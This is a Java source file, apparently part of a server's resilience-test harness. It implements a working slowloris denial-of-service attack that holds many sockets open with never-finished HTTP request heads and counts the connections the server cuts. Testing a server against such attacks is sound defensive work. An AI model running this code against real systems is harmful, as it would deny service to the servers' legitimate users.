package io.sluice.server.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A slowloris from one address: as many sockets as it can hold, each sending a request head one byte a second so
 * that none ever completes, re-opened as soon as the server closes one. Counts what the server cut.
 */
final class Slowloris {
    private static final int NEW_PER_SECOND = 200;

    private final URI target;
    private final String from;
    private final int sockets;

    Slowloris(URI target, String from, int sockets) {
        this.target = target;
        this.from = from;
        this.sockets = sockets;
    }

    Void run(AtomicBoolean attacking, Map<String, AtomicInteger> attacks) throws InterruptedException {
        AtomicInteger cut = attacks.computeIfAbsent("slowloris cut", k -> new AtomicInteger());
        List<Socket> open = new ArrayList<>();
        try {
            while (attacking.get()) {
                for (Iterator<Socket> it = open.iterator(); it.hasNext(); ) {
                    Socket socket = it.next();
                    try {
                        socket.getOutputStream().write('a');
                    } catch (IOException e) {
                        cut.incrementAndGet();
                        close(socket);
                        it.remove();
                    }
                }
                for (int n = 0; n < NEW_PER_SECOND && open.size() < sockets; n++) {
                    open(open, cut);
                }
                Thread.sleep(1_000);
            }
        } finally {
            open.forEach(Slowloris::close);
        }
        return null;
    }

    private void open(List<Socket> open, AtomicInteger cut) {
        Socket socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(InetAddress.getByName(from), 0));
            socket.connect(new InetSocketAddress(target.getHost(), target.getPort()), 5_000);
            socket.getOutputStream().write(("GET / HTTP/1.1\r\nHost: " + target.getHost() + "\r\nX-Slow: ")
                    .getBytes(StandardCharsets.ISO_8859_1));
            open.add(socket);
        } catch (IOException e) {
            cut.incrementAndGet();
            close(socket);
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException ignored) {
            // already gone
        }
    }
}
